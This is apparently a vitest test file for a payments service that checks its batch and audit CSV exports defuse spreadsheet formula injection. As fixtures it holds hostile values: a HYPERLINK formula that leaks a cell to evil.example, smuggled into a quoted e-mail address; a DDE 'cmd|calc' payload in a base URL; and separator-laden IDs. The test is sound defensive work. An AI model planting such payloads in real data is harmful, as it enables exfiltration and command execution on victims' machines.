import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CoreFixture } from '../helpers/app-core-fixture'
import { startExportFixture, type ExportFixture } from '../helpers/export-fixture'
import { apiClient } from '../helpers/sandbox-client'
import { waitForStatus } from '../main/batch/batch-helpers'
import { formulaCells, parseCsv } from './csv-readers'

// Item 4 of the audit: text the service or a renderer controls reaches an exported CSV.
// Opened in a spreadsheet that splits on `;` (most European Excel locales) or tab, a
// `;=HYPERLINK(...)` inside a field becomes a cell of its own: no cell, however the file
// is split, may start a formula.

const hyperlink = '=HYPERLINK("https://evil.example/steal?d="&A1;"Click")'

let exports: ExportFixture
let fixture: CoreFixture

beforeAll(async () => {
  exports = await startExportFixture('payments-desk-csv-')
  fixture = exports.fixture
})
afterAll(() => exports.close())

describe('a batch export holding a customer e-mail the service returned', () => {
  it('has no formula cell when read with , ; or tab as separator', async () => {
    // A quoted local part, which class-validator's IsEmail (and so the service) accepts.
    const customerEmail = `"x;${hyperlink.replaceAll('"', '\\"')}"@example.com`
    const order = {
      products: [{ name: 'Seat', price: 2500, quantity: 1 }],
      currency: 'EUR',
      customerEmail,
      successUrl: 'https://shop.example/ok',
      cancelUrl: 'https://shop.example/no',
    }
    const created = await apiClient(fixture.sandbox).post('/api/checkout/payment', order)
    expect(created.status, created.text).toBe(201)
    const id = (created.json as { id: string }).id
    const job = await fixture.ok('batchStart', { ids: [id, '-1;+2', 'pay_x\t=1'], label: 'hostile' })
    await waitForStatus(fixture.core, job.id, 'completed')

    const exportPath = exports.exportTo('hostile.csv')
    await fixture.ok('batchExport', { jobId: job.id, format: 'csv', includeEmails: true })
    const csv = await readFile(exportPath, 'utf8')
    expect(formulaCells(csv)).toEqual([])
    // Still readable: a comma reader gets the address back, defused where a cell would start.
    const [header = [], ...rows] = parseCsv(csv, ',')
    const row = rows.find((cells) => cells[0] === id)
    expect(row?.[header.indexOf('customer_email')]).toBe(customerEmail.replace(';=', ";'="))
  })
})

describe('an audit export holding a base URL the renderer set', () => {
  it('has no formula cell when read with , ; or tab as separator', async () => {
    await fixture.ok('updateSettings', { baseUrl: { environment: 'operator', url: 'https://evil.example/api;=cmd|calc!A1;-2+3' } })
    const exportPath = exports.exportTo('audit.csv')
    await fixture.ok('auditExport', { format: 'csv' })
    const csv = await readFile(exportPath, 'utf8')
    expect(csv).toContain('evil.example')
    expect(formulaCells(csv)).toEqual([])
  })
})
